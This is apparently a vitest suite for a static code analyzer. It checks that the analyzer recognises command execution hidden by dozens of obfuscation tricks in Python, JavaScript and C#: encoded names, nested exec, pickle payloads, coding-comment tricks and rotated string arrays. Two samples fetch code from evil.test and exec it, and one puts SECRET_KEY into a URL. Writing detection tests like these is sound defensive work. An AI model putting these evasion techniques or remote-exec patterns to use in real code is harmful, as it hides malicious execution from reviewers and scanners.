// Each disguise must state the same call as the plain form, and say that it was one.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, py, run } from './harness.ts';

beforeAll(prepare);

const PLAIN = 'import os\nos.system("id -a")';

const SYSTEM: Readonly<Record<string, string>> = {
  plain: PLAIN,
  alias: 'import os as o\no.system("id -a")',
  'from import': 'from os import system as s\ns("id -a")',
  'star import': 'from os import *\nsystem("id -a")',
  reassigned: 'import os\nf = os.system\ng = f\ng("id -a")',
  getattr: 'import os\ngetattr(os, "sys" + "tem")("id -a")',
  'getattr of a folded name': 'import os\nn = "".join(["s","y","s","t","e","m"])\ngetattr(os, n)("id -a")',
  'reversed name': 'import os\ngetattr(os, "metsys"[::-1])("id -a")',
  'reversed() and join': 'import os\ngetattr(os, "".join(reversed("metsys")))("id -a")',
  'chr in a comprehension': 'import os\ngetattr(os, "".join(chr(c) for c in [115,121,115,116,101,109]))("id -a")',
  'map of chr': 'import os\ngetattr(os, "".join(map(chr, [115,121,115,116,101,109])))("id -a")',
  'xor of characters': `import os\nk = 7\ngetattr(os, "".join(chr(ord(c) ^ k) for c in ${JSON.stringify([...'system'].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join(''))}))("id -a")`,
  'loop over codes': 'import os\ns = ""\nfor c in [115,121,115,116,101,109]:\n    s += chr(c)\ngetattr(os, s)("id -a")',
  format: 'import os\ngetattr(os, "{}{}".format("sys", "tem"))("id -a")',
  'named format': 'import os\ngetattr(os, "{a}tem".format(a="sys"))("id -a")',
  percent: 'import os\ngetattr(os, "%s%s" % ("sys", "tem"))("id -a")',
  'f-string': 'import os\np = "sys"\ngetattr(os, f"{p}tem")("id -a")',
  replace: 'import os\ngetattr(os, "sXstem".replace("X", "y"))("id -a")',
  base64: 'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id -a")',
  base85: 'import os, base64\ngetattr(os, base64.b85decode("b9r-gWo-").decode())("id -a")',
  'letters stripped': 'import os\ngetattr(os, "xx-system-x".strip("x").strip("-"))("id -a")',
  'a prefix and a suffix taken off':
    'import os\ngetattr(os, "the_system_x".removeprefix("the_").removesuffix("_x"))("id -a")',
  'the last part': 'import os\ngetattr(os, "a.b.system".rsplit(".", 1)[1])("id -a")',
  'the first of several replaced': 'import os\ngetattr(os, "#y#tem".replace("#", "s", 2))("id -a")',
  'a list several times': 'import os\ngetattr(os, "".join((["s"] * 3)[:1]) + "ystem")("id -a")',
  hex: 'import os\ngetattr(os, bytes.fromhex("73797374656d").decode())("id -a")',
  'escapes in the name': 'import os\ngetattr(os, "\\x73ystem")("id -a")',
  rot13: 'import os, codecs\ngetattr(os, codecs.decode("flfgrz", "rot13"))("id -a")',
  'method of the type': 'import os\ngetattr(os, str.join("", ["sys", "tem"]))("id -a")',
  __import__: '__import__("os").system("id -a")',
  '__import__ of a folded name': '__import__("o" + "s").system("id -a")',
  importlib: 'import importlib\nm = importlib.import_module("o" + "s")\nm.system("id -a")',
  'sys.modules': 'import sys\nsys.modules["os"].system("id -a")',
  __dict__: 'import os\nos.__dict__["sys" + "tem"]("id -a")',
  'vars of a module': 'import os\ngetattr(os, "system").__call__("id -a")',
  attrgetter: 'import os, operator\noperator.attrgetter("system")(os)("id -a")',
  methodcaller: 'import os, operator\noperator.methodcaller("system", "id -a")(os)',
  partial: 'import os, functools\nf = functools.partial(os.system, "id -a")\nf()',
  'held in a dict': 'import os\nt = {"a": os.system}\nt["a"]("id -a")',
  'held in a list': 'import os\nt = [print, os.system]\nt[1]("id -a")',
  'helper with the function as argument': 'import os\ndef run(f, x):\n    return f(x)\nrun(os.system, "id -a")',
  'helper with the command as argument': 'import os\ndef run(x):\n    os.system(x)\nrun("id " + "-a")',
  lambda: 'import os\nf = lambda c: os.system(c)\nf("id -a")',
  'class attribute':
    'import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f("id -a")\nA().go()',
  'inside eval': "eval(\"__import__('os').system('id -a')\")",
  'inside exec': 'exec("import os\\nos.system(\'id -a\')")',
  'inside decoded exec': `import base64\nexec(base64.b64decode("${Buffer.from(PLAIN).toString('base64')}"))`,
  'two layers': `import base64\nexec(base64.b64decode("${Buffer.from(`import base64\nexec(base64.b64decode("${Buffer.from(PLAIN).toString('base64')}"))`).toString('base64')}").decode())`,
  'compiled first': 'c = compile("import os\\nos.system(\'id -a\')", "x", "exec")\nexec(c)',
  'decorator that runs': 'import os\ndef now(f):\n    f()\n    return f\n@now\ndef go():\n    os.system("id -a")',
  'JSON written out': 'import os, json\nos.system(json.loads(\'{"c": ["id -a"]}\')["c"][0])',
  walrus: 'import os\nif (f := os.system):\n    f("id -a")',
  'try import': 'try:\n    import os as x\nexcept ImportError:\n    x = None\nx.system("id -a")',
};

describe('disguises of a call', () => {
  for (const [name, code] of Object.entries(SYSTEM)) {
    it(name, () => {
      const result = py(code);
      const call = result
        .calls()
        .find((one) => one.callee === 'os.system' && (one.args[0] === 'id -a' || name === 'methodcaller'));
      expect(call, JSON.stringify(result.calls())).toBeDefined();
      expect(result.commands().some((one) => one.line === 'id -a')).toBe(true);
    });
  }

  it('marks tricks and only tricks as disguised', () => {
    const disguised = (code: string) =>
      py(code)
        .calls()
        .find((one) => one.callee === 'os.system')?.disguised;
    expect(disguised(PLAIN)).toBe(false);
    expect(disguised(SYSTEM['alias']!)).toBe(false);
    expect(disguised(SYSTEM['reassigned']!)).toBe(false);
    expect(disguised(SYSTEM['getattr']!)).toBe(true);
    expect(disguised(SYSTEM['__import__']!)).toBe(true);
    expect(disguised(SYSTEM['sys.modules']!)).toBe(true);
    expect(disguised(SYSTEM['__dict__']!)).toBe(true);
  });
});

describe('disguises of evaluation', () => {
  for (const code of [
    'globals()["ev" + "al"]("1+1")',
    '__builtins__["eval"]("1+1")',
    'getattr(__builtins__, "ev" + "al")("1+1")',
    'import builtins\ngetattr(builtins, "lave"[::-1])("1+1")',
    '__import__("builtins").__dict__["eval"]("1+1")',
    'vars(__builtins__)["eval"]("1+1")',
  ]) {
    it(code, () => {
      const call = py(code)
        .calls()
        .find((one) => /(?:^|\.)eval$/.test(one.callee));
      expect(call?.args).toEqual(['1+1']);
      expect(call?.disguised).toBe(true);
    });
  }
});

describe('constants keep their holes', () => {
  it('a URL with an unknown query keeps its host', () => {
    const result = py('import requests, os\nrequests.get("https://h.test/c?d=" + os.environ["SECRET_KEY"])');
    const flow = result.flows().find((one) => one.position === 'url');
    expect(flow).toMatchObject({ host: 'h.test', from: ['env:SECRET_KEY'], to: 'network' });
  });
  it('repeating and replacing are bounded', () => {
    const result = py('x = "a" * 10**9\ny = x.replace("a", x)\nprint(len(y))');
    expect(result.ms).toBeLessThan(1000);
  });
});

describe('in JavaScript and by way of libraries', () => {
  const commands = (path: string, code: string) =>
    run({ [path]: code })
      .commands()
      .map((one) => one.line);
  const CP = "const cp = require('child_process');\n";
  it.each([
    ['an argument of a timer', `${CP}setTimeout(cp.exec, 10, 'id -a')`],
    ['an argument of the next tick', `${CP}process.nextTick(cp.exec, 'id -a')`],
    ['JSON written out', `${CP}const { c } = JSON.parse('{"c": "id -a"}');\ncp.execSync(c)`],
    ['escapes in a name', `${CP}cp.\\u0065xecSync('id -a')`],
  ])('%s', (_, code) => expect(commands('a.js', code)).toContain('id -a'));

  it('a library of the machine', () => {
    expect(commands('a.py', 'import ctypes\nctypes.CDLL(None).system(b"id -a")')).toContain('id -a');
  });
  it.each([
    ['a socket', 'import socket\ns = socket.socket()\ns.connect(("evil.test", 80))\nexec(s.recv(99))'],
    [
      'a connection',
      'import http.client\nc = http.client.HTTPConnection("evil.test")\nc.request("GET", "/x")\nexec(c.getresponse().read())',
    ],
  ])('code of %s comes from where it is connected to', (_, code) => {
    const found = run({ 'a.py': code })
      .flows()
      .filter((one) => one.to === 'evaluate');
    expect(found.map((one) => one.host)).toContain('evil.test');
  });
});

describe('texts that a program works out', () => {
  const lines = (path: string, code: string) =>
    run({ [path]: code })
      .commands()
      .map((one) => one.line);
  const codes = (text: string, key: readonly number[]) =>
    JSON.stringify([...text].map((one, i) => one.charCodeAt(0) ^ key[i % key.length]!));
  const key = [7, 31, 9];
  it.each([
    [
      'a helper with lists of numbers',
      `import os\ndef d(data, key):\n    return ''.join(chr(b ^ key[i % len(key)]) for i, b in enumerate(data))\nos.system(d(${codes('id -a', key)}, [7, 31, 9]))`,
    ],
    [
      'a loop that appends',
      `import os\ndef d(data, key):\n    out = []\n    for i in range(len(data)):\n        out.append(chr(data[i] ^ key[i % len(key)]))\n    return ''.join(out)\nx = d(${codes('id -a', key)}, [7, 31, 9])\nos.system(x)`,
    ],
    ['a table of letters', "import os\nt = str.maketrans('xyz', 'ida')\nos.system('xy -z'.translate(t))"],
    ['a table of numbers', "import os\nos.system('~d -a'.translate({ord('~'): 'i'}))"],
    ['letters that go', "import os\nos.system('i~d~ -~a'.translate(str.maketrans('', '', '~')))"],
    [
      'pieces by their numbers',
      "import os\np = {1: 'd -a', 0: 'i'}\ns = ''\nfor i, _ in enumerate(p):\n    s += p[i]\nos.system(s)",
    ],
  ])('Python: %s', (_, code) => expect(lines('a.py', code)).toContain('id -a'));

  it.each([
    [
      'turned by a number',
      "const a = ['execSync', 'child_process', 'id -a'];\nfor (let i = 0; i < 2; i++) a.push(a.shift());\nconst g = (i) => a[i - 100];\nrequire(g(102))[g(101)](g(100));",
    ],
    [
      'turned by a function',
      "var b = ['id -a', 'child_process', 'execSync'];\n(function (x, n) { const t = function (m) { while (--m) { x.push(x.shift()); } }; t(++n); }(b, 0x2));\nvar f = function (i) { i = i - 0x0; var v = b[i]; return v; };\nrequire(f('0x2'))[f('0x0')](f('0x1'));",
    ],
    [
      'turned until a sum is right',
      `function arr() { const a = ['execSync', '1111yyy', 'id -a', '22xx', 'child_process']; arr = function () { return a; }; return arr(); }
function f(i, k) { const list = arr(); f = function (i, k) { i = i - 0x64; let v = list[i]; return v; }; return f(i, k); }
(function (g, n) { const a = g(); while (!![]) { try { const v = parseInt(f(0x64)) / 0x1 + parseInt(f(0x66)) / 0x2; if (v === n) break; else a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } } }(arr, 1122));
require(f(0x67))[f(0x68)](f(0x65));`,
    ],
  ])('JavaScript: a list %s', (_, code) => expect(lines('a.js', code)).toContain('id -a'));

  it('what came from elsewhere stays unknown', () => {
    const code = 'import os, sys\nfor i, one in enumerate(sys.argv):\n    os.system(one)';
    expect(lines('a.py', code)).not.toContain('id -a');
    expect(run({ 'a.py': code }).flows().length).toBeGreaterThan(0);
  });
});

describe('ways of Python to call something else', () => {
  const lines = (code: string) =>
    run({ 'a.py': code })
      .commands()
      .map((one) => one.line);
  const hex = Buffer.from('id -a --and-more').toString('hex');
  const protocol4 = 'gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVpZCAtYZSFlFKULg==';
  it.each([
    ['a long number', `import os\nn = ${BigInt(`0x${hex}`)}\nos.system(n.to_bytes(16, 'big').decode())`],
    [
      'a long number in hex',
      `import os\nn = 0x${hex}\nos.system(n.to_bytes((n.bit_length() + 7) // 8, 'big').decode())`,
    ],
    ['a long number read', `import os\nos.system(int.to_bytes(int('${hex}', 16), 16, byteorder='big').decode())`],
  ])('%s', (_, code) => expect(lines(code)).toContain('id -a --and-more'));

  it.each([
    [
      'constants of an Enum',
      "import os\nfrom enum import Enum\nclass S(Enum):\n    A = 'id '\n    B = '-a'\nos.system(S.A.value + S.B.value)",
    ],
    ['another function in its place', "import os, json\njson.loads = os.system\njson.loads('id -a')"],
    ['another function set by name', "import os, json\nsetattr(json, 'loads', os.system)\njson.loads('id -a')"],
    [
      'a metaclass',
      "import os\nclass M(type):\n    def __init__(cls, name, bases, ns):\n        os.system(ns['c'])\nclass A(metaclass=M):\n    c = 'id -a'",
    ],
    [
      'an element of an object',
      "import os\nclass A:\n    def __getitem__(self, k):\n        return os.system(k)\nA()['id -a']",
    ],
    [
      'an element of a class',
      "import os\nclass A:\n    def __class_getitem__(cls, k):\n        return os.system(k)\nA['id -a']",
    ],
    ['an element of a patched class', "import os\nclass A: pass\nA.__class_getitem__ = os.system\nA['id -a']"],
    [
      'a sum of an object',
      "import os\nclass A:\n    def __add__(self, k):\n        return os.system(k)\nA() + 'id -a'",
    ],
    ['decorators of a class', "import os\n@os.system\n@lambda c: 'id -a'\nclass A: pass"],
    ['decorators of a function', "import os\n@os.system\n@str.lower\n@lambda f: 'ID -A'\ndef f(): pass"],
    ['operator.call', "import os, operator\noperator.call(os.system, 'id -a')"],
    ['a comment of escapes', "# -*- coding: unicode_escape -*-\nimport os\n# x\\nos.system('id -a')"],
    ['a comment of raw escapes', "# coding: raw_unicode_escape\nimport os\n#\\u000aos.system('id -a')"],
    ['a comment of utf-7', "# -*- coding: utf-7 -*-\nimport os\n#+AAo-os.system('id -a')"],
    [
      'a pickle of letters',
      `import pickle, base64\npickle.loads(base64.b64decode('${Buffer.from("cposix\nsystem\n(S'id -a'\ntR.").toString('base64')}'))`,
    ],
    ['a pickle of bytes', `import pickle, base64\npickle.loads(base64.b64decode('${protocol4}'))`],
    ['a pickle written out', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id -a\'\\ntR.")'],
  ])('%s', (_, code) => expect(lines(code)).toContain('id -a'));

  it.each([
    [
      'a wrapper of a library',
      "import json, functools\nold = json.dumps\njson.dumps = functools.partial(old, indent=2)\nprint(json.dumps({'a': 1}))",
    ],
    ['an ordinary coding', "# -*- coding: latin-1 -*-\n# x\\nimport os; os.system('id -a')\nprint('a')"],
    ['data in a pickle', 'import pickle\nprint(pickle.loads(b"(lp0\\nI1\\na."))'],
    [
      'a registry of classes',
      'class R(type):\n    all = []\n    def __init__(cls, name, bases, ns):\n        R.all.append(cls)\nclass A(metaclass=R):\n    x = 1',
    ],
  ])('not: %s', (_, code) => expect(lines(code)).toEqual([]));

  it('a place behind a coding is where it stands in the file', () => {
    const code = "# -*- coding: utf-7 -*-\nimport os\n#+AAo-os.system('id -a')";
    const call = run({ 'a.py': code })
      .calls()
      .find((one) => one.callee === 'os.system')!;
    const { span } = (call as unknown as { place: { span: { start: number; end: number } } }).place;
    expect(code.slice(span.start, span.end)).toBe("os.system('id -a')");
  });
});

describe('ways of JavaScript to run code', () => {
  const lines = (code: string, path = 'a.js') =>
    run({ [path]: code })
      .commands()
      .map((one) => one.line);
  it.each([
    [
      'a worker of text',
      'new (require("worker_threads").Worker)("require(\'child_process\').execSync(\'id -a\')", { eval: true });',
    ],
    [
      'a function that gives the process',
      "const p = (() => {}).constructor('return process')();\np.mainModule.require('child_process').execSync('id -a');",
    ],
    [
      'a script with names',
      "const vm = require('vm');\nnew vm.Script(\"r('child_process').execSync('id -a')\").runInNewContext({ r: require });",
    ],
    [
      'code with names',
      "const vm = require('vm');\nvm.runInNewContext(\"r('child_process').execSync('id -a')\", { r: require });",
    ],
    [
      'a method of texts',
      "String.prototype.go = function () { return require('child_process').execSync(this.toString()); };\n'id -a'.go();",
    ],
    [
      'a method of lists',
      "Array.prototype.go = function () { return require('child_process').execSync(this.join(' ')); };\n['id', '-a'].go();",
    ],
    [
      'codes beyond the halves of UTF-16',
      "require('child_process').execSync(String.fromCharCode(65641, 65636) + ' -a');",
    ],
    ['so many from the end', "require('child_process').execSync('ls /; id -a'.substr(-5, 5));"],
    ['places in either order', "require('child_process').execSync('xxid -axx'.substring(7, 2));"],
    ['a remainder with a sign', "require('child_process').execSync(['', 'id -a'][(-7 % 3) + 2]);"],
    [
      'a reviver',
      "JSON.parse('{\"c\":\"id -a\"}', (k, v) => { if (k === 'c') require('child_process').execSync(v); return v; });",
    ],
  ])('%s', (_, code) => expect(lines(code)).toContain('id -a'));

  it.each([
    [
      'a worker that counts',
      "const { Worker } = require('worker_threads');\nnew Worker(\"require('worker_threads').parentPort.postMessage(2)\", { eval: true });",
    ],
    ['a worker of a file', "const { Worker } = require('worker_threads');\nnew Worker('./w.js');"],
    [
      'a script that counts',
      "const vm = require('vm');\nconsole.log(new vm.Script('x + 1').runInNewContext({ x: 1 }));",
    ],
    [
      'a method that writes large',
      "String.prototype.cap = function () { return this[0].toUpperCase() + this.slice(1); };\nconsole.log('abc'.cap());",
    ],
    ['a reviver of dates', 'JSON.parse(\'{"d":"2020-01-01"}\', (k, v) => (k === \'d\' ? new Date(v) : v));'],
  ])('not: %s', (_, code) => expect(lines(code)).toEqual([]));

  it.each([
    ['in one text', 'Process.Start("sh", "-c \\"id -a\\"");'],
    ['prepared', 'var p = new ProcessStartInfo("sh", "-c \\"id -a\\"");\nProcess.Start(p);'],
  ])('C#: a program started %s', (_, code) => expect(lines(code, 'a.cs')).toContain('id -a'));
});
